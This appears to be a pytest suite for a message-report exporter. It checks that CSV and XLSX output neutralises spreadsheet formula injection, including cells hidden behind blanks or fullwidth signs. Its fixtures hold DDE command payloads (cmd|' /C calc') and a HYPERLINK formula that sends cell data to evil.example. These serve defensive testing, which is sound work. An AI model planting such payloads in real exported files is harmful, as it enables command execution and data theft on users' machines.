"""Report writers: CSV and XLSX bytes from message rows, safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
import tempfile
import zipfile
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from chalicelib.reports import writers
from chalicelib.reports.formats import CONTENT_TYPES, FORMATS
from chalicelib.reports.writers import (
    COLUMNS_COMMON,
    CsvWriter,
    XlsxWriter,
    columns_for,
    neutralise,
    writer_for,
)

ROOT = Path(__file__).resolve().parents[2]
SMS = columns_for("sms")  # message_id channel target status created_at updated_at total_sms message_body
DANGEROUS = ["=1+2", "+62812 =cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1",
             '=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "Halo;=1+2;@SUM(A1)", "a,-1", "x\n@y"]
# Each as the CSV cell text that no spreadsheet evaluates, wherever it splits cells: a quote before
# the first character, and after every separator (, ; tab CR LF) followed by = + - @.
NEUTRALISED = ["'=1+2", "'+62812 =cmd", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1,2)", "'\t'=1", "'\r'=1",
               '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "Halo;'=1+2;'@SUM(A1)", "a,'-1", "x\n'@y"]


class Sink:
    """What the worker passes: something with write(bytes). Records each write."""

    def __init__(self) -> None:
        self.chunks: list[bytes] = []

    def write(self, data: bytes) -> int:
        assert isinstance(data, bytes)
        self.chunks.append(data)
        return len(data)

    @property
    def data(self) -> bytes:
        return b"".join(self.chunks)


def sms_row(i: int = 0, **overrides) -> list:
    row = {"message_id": f"01JB{i:022d}", "channel": "sms", "target": "6281234567890", "status": "Delivered",
           "created_at": "2026-10-01T03:04:05.678Z", "updated_at": "2026-10-01T03:04:09.000Z",
           "total_sms": 1, "message_body": f"pesan {i}"}
    row.update(overrides)
    return [row[name] for name in SMS]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def write_csv(rows: list[list], columns: list[str] = SMS, **kw) -> bytes:
    sink = Sink()
    writer = CsvWriter(sink, columns, **kw)
    for row in rows:
        writer.write_row(row)
    writer.close()
    assert writer.rows == len(rows)
    return sink.data


def write_xlsx(rows: list[list], columns: list[str] = SMS, **kw):
    from openpyxl import load_workbook

    sink = Sink()
    writer = XlsxWriter(sink, columns, **kw)
    for row in rows:
        writer.write_row(row)
    writer.close()
    assert writer.rows == len(rows)
    return load_workbook(io.BytesIO(sink.data), read_only=False)


def sheet_values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --- columns and formats -------------------------------------------------------------------------

@pytest.mark.parametrize("channel, details", [
    ("sms", ["total_sms", "message_body"]),
    ("sms_otp", ["total_sms", "sender_id", "message_body"]),
    ("email", ["subject", "sender_email", "attachment"]),
    ("ivr", ["ivr_id", "duration", "talk_duration", "hangup_cause"]),
    ("whatsapp", ["template_name"]),
])
def test_columns_are_the_common_ones_then_the_channels_own(channel, details):
    assert columns_for(channel) == COLUMNS_COMMON + details
    columns_for(channel).append("x")  # a copy: the module's lists stay as they are
    assert columns_for(channel) == COLUMNS_COMMON + details


def test_an_unknown_channel_or_format_is_refused():
    with pytest.raises(ValueError):
        columns_for("fax")
    with pytest.raises(ValueError):
        writer_for("pdf", Sink(), SMS)


def test_writer_for_picks_the_writer_and_xls_means_xlsx():
    assert isinstance(writer_for("csv", Sink(), SMS), CsvWriter)
    assert isinstance(writer_for("CSV", Sink(), SMS), CsvWriter)
    for name in ("xlsx", "xls", "XLS"):
        writer = writer_for(name, Sink(), SMS, max_rows_per_sheet=10)
        assert isinstance(writer, XlsxWriter) and writer.max_rows_per_sheet == 10
        writer.abort()
    assert CONTENT_TYPES["csv"] == "text/csv; charset=utf-8" and CONTENT_TYPES["csv.gz"] == "application/gzip"
    assert CONTENT_TYPES[FORMATS["xls"]] == CONTENT_TYPES["xlsx"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert FORMATS == {"csv": "csv", "xlsx": "xlsx", "xls": "xlsx", "csv.gz": "csv.gz"}


def test_importing_the_module_does_not_import_openpyxl():
    code = "import sys, chalicelib.reports.writers; assert 'openpyxl' not in sys.modules, 'openpyxl imported'"
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, capture_output=True)


# --- neutralise ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", list(zip(DANGEROUS, NEUTRALISED)))
def test_neutralise_quotes_text_that_a_spreadsheet_would_evaluate(text, expected):
    assert neutralise(text) == expected


# Formulas a spreadsheet still finds behind blanks (space, no-break space, ideographic space) or in
# fullwidth signs (Excel with an East Asian IME reads ＝ as =), at the start or after a separator.
HIDDEN = [" =1+2", "\u00a0=1+2", "  \u00a0@SUM(A1)", "\u3000＝1+2", "＝HYPERLINK(\"http://evil.example\")", "＋62812",
          "－2+3", "＠SUM(1,2)", "Halo; =1+2", "Halo;\u00a0＝1", "a,\u2007-1"]
HIDDEN_NEUTRALISED = ["' =1+2", "'\u00a0=1+2", "'  \u00a0@SUM(A1)", "'\u3000＝1+2", "'＝HYPERLINK(\"http://evil.example\")",
                      "'＋62812", "'－2+3", "'＠SUM(1,2)", "Halo;' =1+2", "Halo;'\u00a0＝1", "a,'\u2007-1"]


@pytest.mark.parametrize("text, expected", list(zip(HIDDEN, HIDDEN_NEUTRALISED)))
def test_neutralise_finds_a_formula_behind_blanks_or_in_fullwidth_signs(text, expected):
    assert neutralise(text) == expected
    # It still reads as the same text to a person: the one change is an apostrophe before the cell
    # (or the separated part), and the blanks and fullwidth signs stay as written.
    assert expected.replace("'", "", 1) == text or expected.replace(";'", ";", 1).replace(",'", ",", 1) == text


@pytest.mark.parametrize("value, expected", [
    (None, ""), ("", ""), ("Delivered", "Delivered"), ("628123", "628123"), ("a=b", "a=b"),
    ("  halo", "  halo"), ("\u00a0Rp 5.000", "\u00a0Rp 5.000"), ("a ＝ b", "a ＝ b"), (" -", "' -"),
    ("'=1", "'=1"), ("Rp 250.000, jatuh tempo 25/10; lunas", "Rp 250.000, jatuh tempo 25/10; lunas"),
    ("Rp 10.000,-", "Rp 10.000,-"), ("Rp 10.000, -", "Rp 10.000, -"), ("Rp 10.000,- lunas", "Rp 10.000,'- lunas"),
    (-5, "-5"), (2.5, "2.5"), (Decimal("-1.5"), "-1.5"),
    (datetime(2026, 10, 1, 10, 4, 5, tzinfo=timezone(timedelta(hours=7))), "2026-10-01T03:04:05.000Z"),
])
def test_neutralise_leaves_safe_text_and_numbers_alone(value, expected):
    assert neutralise(value) == expected


# --- CSV -----------------------------------------------------------------------------------------

def test_csv_round_trip_keeps_every_value_exactly():
    tricky = [
        sms_row(1, message_body="Selamat pagi, Bu Siti! Pesanan #INV-2291 sudah dikirim 🚚✨"),
        sms_row(2, message_body='Dia bilang "halo", lalu pergi'),
        sms_row(3, message_body="baris satu\nbaris dua\r\nbaris tiga"),
        sms_row(4, message_body="Rp 250.000, jatuh tempo 25/10; ⚠️ Öffnungszeiten 中文", total_sms=3),
        sms_row(5, message_body="", total_sms=None),
    ]
    data = write_csv(tricky)
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.endswith(b"\r\n") and b"Delivered\r\n" not in data  # CRLF after each row
    rows = csv_rows(data)
    assert rows[0] == SMS
    expected = [["" if v is None else str(v) for v in row] for row in tricky]
    assert rows[1:] == expected


def test_csv_neutralises_each_dangerous_prefix_and_keeps_numbers_as_numbers():
    data = write_csv([sms_row(i, message_body=text, target=text) for i, text in enumerate(DANGEROUS)]
                     + [sms_row(99, total_sms=-5, message_body="-5")])
    rows = csv_rows(data)[1:]
    for row, expected in zip(rows, NEUTRALISED):
        assert row[SMS.index("message_body")] == expected
        assert row[SMS.index("target")] == expected
    last = rows[-1]
    assert last[SMS.index("total_sms")] == "-5"  # a number: no apostrophe
    assert last[SMS.index("message_body")] == "'-5"  # text that looks like a formula: neutralised
    assert b',"-5",' in data


def test_csv_quotes_every_field_so_no_separator_splits_a_cell():
    """The issue-12 attack: `Halo;=1+2;@SUM(A1)` was written unquoted, and Excel in id-ID splits a
    CSV on `;`. Now every field is quoted, and even a reader that ignores the quotes and splits on
    any separator finds no cell starting a formula."""
    data = write_csv([sms_row(1, message_body="Halo;=1+2;@SUM(A1)", target="x,=2\t-3\n+4")])
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith('"message_id","channel",') and lines[1].startswith('"01JB')
    assert '"Halo;\'=1+2;\'@SUM(A1)"' in lines[1]
    for line in data.decode("utf-8-sig").splitlines():
        for delimiter in ",;\t":
            for cell in line.split(delimiter):
                cell = cell.strip('"')
                assert not cell or cell[0] not in "=+-@", (delimiter, cell)


def test_csv_writes_other_types_as_text():
    # Columns that can hold outside text are converted and checked cell by cell; the columns Kirim
    # fills itself (SAFE_COLUMNS: ids, words, ISO times, counts) are written as given.
    at = datetime(2026, 10, 1, 3, 4, 5, 678000, tzinfo=timezone.utc)
    rows = csv_rows(write_csv([sms_row(target=Decimal("2"), message_body=at)]))
    assert rows[1][2] == "2" and rows[1][7] == "2026-10-01T03:04:05.678Z"
    rows = csv_rows(write_csv([sms_row(message_body=b"bytes")]))
    assert rows[1][7] == "bytes"
    assert {"message_id", "status", "created_at"} <= writers.SAFE_COLUMNS
    assert not {"target", "message_body", "subject", "sender_email", "sender_id", "template_name",
                "attachment", "hangup_cause"} & writers.SAFE_COLUMNS


def test_empty_csv_report_is_just_the_header():
    assert write_csv([]) == "\ufeff".encode() + ",".join(f'"{c}"' for c in SMS).encode() + b"\r\n"


def test_csv_bytes_reach_the_sink_in_chunks_as_rows_are_written():
    sink = Sink()
    writer = CsvWriter(sink, SMS)
    rows = [sms_row(i, message_body="Kode OTP Anda %06d. Jangan berikan kode ini kepada siapa pun." % i)
            for i in range(30_000)]  # about 3.5 MB
    for row in rows:
        writer.write_row(row)
    assert len(sink.chunks) >= 2, "bytes must leave before close(), or memory grows with the report"
    assert max(map(len, sink.chunks)) <= writers.CSV_CHUNK
    writer.close()
    assert len(sink.chunks) >= 3
    assert csv_rows(sink.data)[1:] == [[str(v) for v in row] for row in rows]


def test_a_lone_surrogate_does_not_fail_a_csv_report():
    assert csv_rows(write_csv([sms_row(message_body="a\ud800b")]))[1][-1] == "a?b"


def test_writer_refuses_rows_of_the_wrong_width_and_rows_after_close():
    writer = CsvWriter(Sink(), SMS)
    with pytest.raises(ValueError):
        writer.write_row(["only", "three", "values"])
    writer.close()
    writer.close()  # twice is fine
    with pytest.raises(ValueError):
        writer.write_row(sms_row())


def test_aborted_csv_writer_sends_nothing_more():
    sink = Sink()
    writer = CsvWriter(sink, SMS)
    writer.write_row(sms_row())
    writer.abort()
    assert sink.chunks == []  # all was still buffered, and is dropped


def test_context_manager_closes_or_aborts():
    sink = Sink()
    with writer_for("csv", sink, SMS) as writer:
        writer.write_rows([sms_row(1), sms_row(2)])
    assert len(csv_rows(sink.data)) == 3
    sink = Sink()
    with pytest.raises(RuntimeError):
        with writer_for("csv", sink, SMS) as writer:
            writer.write_row(sms_row())
            raise RuntimeError("Query failed")
    assert sink.data == b""


# --- XLSX ----------------------------------------------------------------------------------------

def test_xlsx_keeps_risky_text_as_text_with_a_hidden_quote_prefix_and_never_a_formula():
    rows = [sms_row(i, message_body=text, target=text) for i, text in enumerate(DANGEROUS)]
    rows.append(sms_row(99, total_sms=-5, message_body="-5"))
    rows.append(sms_row(100, total_sms=Decimal("2.5"), message_body="#N/A", target="#REF!"))
    rows.append(sms_row(101, message_body="Halo Bu Siti", target="6281234567890"))
    book = write_xlsx(rows)
    sheet = book["Messages"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = sheet_values(sheet)
    assert values[0] == SMS
    for number, text in enumerate(DANGEROUS, start=2):
        for column in ("target", "message_body"):
            cell = sheet.cell(row=number, column=SMS.index(column) + 1)
            # Exactly as written, no visible apostrophe: the quotePrefix style (with the Text
            # number format) makes Excel show it as text and keep it text when edited.
            assert cell.value == text and cell.data_type == "s"
            assert cell.quotePrefix and cell.number_format == "@"
    numbers = values[-3]
    assert numbers[SMS.index("total_sms")] == -5 and numbers[SMS.index("message_body")] == "-5"
    assert sheet.cell(row=len(values) - 2, column=SMS.index("total_sms") + 1).data_type == "n"
    assert sheet.cell(row=len(values) - 2, column=SMS.index("message_body") + 1).quotePrefix
    errors_as_text = values[-2]
    assert errors_as_text[SMS.index("total_sms")] == 2.5
    assert errors_as_text[SMS.index("message_body")] == "#N/A" and errors_as_text[SMS.index("target")] == "#REF!"
    assert {cell.data_type for cell in cells if cell.value in ("#N/A", "#REF!")} == {"s"}
    plain = [sheet.cell(row=len(values), column=SMS.index(c) + 1) for c in ("target", "message_body")]
    assert [c.value for c in plain] == ["6281234567890", "Halo Bu Siti"]
    assert not any(c.quotePrefix for c in plain) and {c.data_type for c in plain} == {"s"}


def test_csv_and_xlsx_neutralise_a_formula_behind_blanks_or_in_fullwidth_signs_and_show_the_same_text():
    rows = [sms_row(i, message_body=text, target=text) for i, text in enumerate(HIDDEN)]
    for row, expected in zip(csv_rows(write_csv(rows))[1:], HIDDEN_NEUTRALISED):
        assert row[SMS.index("message_body")] == row[SMS.index("target")] == expected
    sheet = write_xlsx(rows)["Messages"]
    for number, text in enumerate(HIDDEN, start=2):
        for column in ("target", "message_body"):
            cell = sheet.cell(row=number, column=SMS.index(column) + 1)
            # Exactly the text as written, blanks and fullwidth signs included, kept text by the style.
            assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_xlsx_keeps_unicode_and_writes_none_as_an_empty_cell():
    book = write_xlsx([sms_row(1, message_body="Halo 👋 Bu Siti,\n\"apa kabar?\"", total_sms=None)])
    assert sheet_values(book.active)[1] == sms_row(1, message_body="Halo 👋 Bu Siti,\n\"apa kabar?\"",
                                                    total_sms=None)


def test_xlsx_spills_to_further_sheets_each_with_the_header():
    rows = [sms_row(i) for i in range(8)]
    book = write_xlsx(rows, max_rows_per_sheet=3)
    assert book.sheetnames == ["Messages", "Messages 2", "Messages 3"]
    sizes = []
    data_rows = []
    for sheet in book.worksheets:
        values = sheet_values(sheet)
        assert values[0] == SMS
        sizes.append(len(values) - 1)
        data_rows += values[1:]
    assert sizes == [3, 3, 2]
    assert data_rows == rows  # in order, none lost or repeated


def test_xlsx_exactly_full_sheet_does_not_start_an_empty_one():
    assert write_xlsx([sms_row(i) for i in range(3)], max_rows_per_sheet=3).sheetnames == ["Messages"]


def test_xlsx_strips_characters_xml_forbids_then_neutralises():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    body = "a\x00b\x07c\x0bd\x0ce\x1ff\ttab\nline\rcr"
    book = write_xlsx([
        sms_row(1, message_body=body, target="  spaced  "),
        sms_row(2, message_body="\x01=cmd|' /C calc'!A0", target="x\ud800y\ufffez\uffff"),
    ])
    values = sheet_values(book.active)
    assert values[1][SMS.index("message_body")] == "abcdef\ttab\nline\rcr"  # CR kept (&#13;)
    assert values[1][SMS.index("target")] == "  spaced  "
    assert values[2][SMS.index("message_body")] == "=cmd|' /C calc'!A0"
    assert book.active.cell(row=3, column=SMS.index("message_body") + 1).quotePrefix
    assert values[2][SMS.index("target")] == "xyz"
    assert not any(ILLEGAL_CHARACTERS_RE.search(v) for row in values for v in row if isinstance(v, str))


def test_xlsx_cell_text_is_cut_to_excels_limit():
    book = write_xlsx([sms_row(message_body="x" * 40_000, target="=" + "y" * 40_000)])
    row = sheet_values(book.active)[1]
    assert len(row[SMS.index("message_body")]) == 32_767
    assert len(row[SMS.index("target")]) == 32_767 and row[SMS.index("target")].startswith("=")
    assert book.active.cell(row=2, column=SMS.index("target") + 1).quotePrefix


def test_empty_xlsx_report_is_one_sheet_with_the_header():
    book = write_xlsx([])
    assert book.sheetnames == ["Messages"]
    assert sheet_values(book.active) == [SMS]


def test_xlsx_streams_to_the_sink_with_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    sink = Sink()
    writer = XlsxWriter(sink, SMS, max_rows_per_sheet=20_000)
    for i in range(50_000):
        writer.write_row(sms_row(i, message_body=f"Kode OTP Anda {i * 7919 % 1_000_000:06d}, jangan berikan"))
    before_close = len(sink.data)
    assert before_close > 100_000, "bytes must leave as rows are written, not at close()"
    writer.close()
    assert list(tmp_path.iterdir()) == []
    archive = zipfile.ZipFile(io.BytesIO(sink.data))
    assert archive.testzip() is None  # every entry's CRC-32 checks
    assert all(info.file_size < 2**32 and info.extra == b"" for info in archive.infolist())  # no ZIP64
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(sink.data), read_only=True)
    assert book.sheetnames == ["Messages", "Messages 2", "Messages 3"]
    assert sum(1 for sheet in book.worksheets for _ in sheet.iter_rows(min_row=2)) == 50_000


def test_aborted_xlsx_writer_sends_nothing_more():
    sink = Sink()
    with pytest.raises(RuntimeError):
        with XlsxWriter(sink, SMS, max_rows_per_sheet=2) as writer:
            for i in range(5):
                writer.write_row(sms_row(i))
            sent = len(sink.data)
            raise RuntimeError("Query failed")
    assert len(sink.data) == sent
    with pytest.raises(ValueError):
        writer.write_row(sms_row())


def test_xlsx_sheet_size_must_fit_excel():
    with pytest.raises(ValueError):
        XlsxWriter(Sink(), SMS, max_rows_per_sheet=1_048_576)
    with pytest.raises(ValueError):
        XlsxWriter(Sink(), SMS, max_rows_per_sheet=0)


# --- checkpoints -----------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "csv.gz", "xlsx"])
def test_a_writer_resumed_from_its_checkpoints_writes_the_same_bytes(fmt):
    """What a report written across slices relies on: checkpoint, a JSON round trip (the report
    item), a new writer in "another process", and the file is byte for byte the one written in one go."""
    rows = [sms_row(i, message_body=DANGEROUS[i % len(DANGEROUS)] if i % 7 == 0 else f"pesan {i} 👋")
            for i in range(5_000)]
    cuts = [0, 1_234, 1_235, 3_000, 5_000]
    options = {"max_rows_per_sheet": 2_000} if fmt == "xlsx" else {}

    whole = bytearray()
    writer = writer_for(fmt, whole.extend, SMS, **options)
    for a, b in zip(cuts, cuts[1:]):
        writer.write_rows(rows[a:b])
        writer.checkpoint()
    writer.close()

    resumed = bytearray()
    writer = writer_for(fmt, resumed.extend, SMS, **options)
    for a, b in zip(cuts, cuts[1:]):
        writer.write_rows(rows[a:b])
        state = json.loads(json.dumps(writer.checkpoint()))
        assert state["rows"] == b
        writer = writers.resume_writer(fmt, state, resumed.extend, SMS)
    writer.close()
    assert bytes(resumed) == bytes(whole)

    if fmt == "xlsx":
        from openpyxl import load_workbook
        book = load_workbook(io.BytesIO(bytes(resumed)), read_only=True)
        ids = [r[0] for sheet in book.worksheets for r in sheet.iter_rows(min_row=2, values_only=True)]
        assert ids == [r[0] for r in rows] and len(book.sheetnames) == 3
    else:
        text = gzip.decompress(bytes(resumed)) if fmt == "csv.gz" else bytes(resumed)
        assert [r[0] for r in csv_rows(text)[1:]] == [r[0] for r in rows]


def test_gzip_csv_is_one_member_any_tool_reads():
    sink = Sink()
    with writer_for("csv.gz", sink, SMS) as writer:
        writer.write_rows([sms_row(i) for i in range(1000)])
    assert sink.data[:2] == b"\x1f\x8b"
    assert csv_rows(gzip.decompress(sink.data))[1:] == [[str(v) for v in sms_row(i)] for i in range(1000)]
